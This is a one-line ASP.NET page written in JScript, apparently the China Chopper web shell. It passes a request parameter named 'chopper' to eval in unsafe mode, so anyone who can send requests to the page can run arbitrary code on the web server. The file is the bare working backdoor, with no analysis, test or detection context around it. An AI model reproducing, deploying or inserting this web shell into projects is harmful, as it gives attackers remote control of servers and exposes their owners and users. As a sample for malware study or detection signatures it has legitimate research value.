<%@ Page Language="Jscript"%><%eval(Request.Item["chopper"],"unsafe");%>
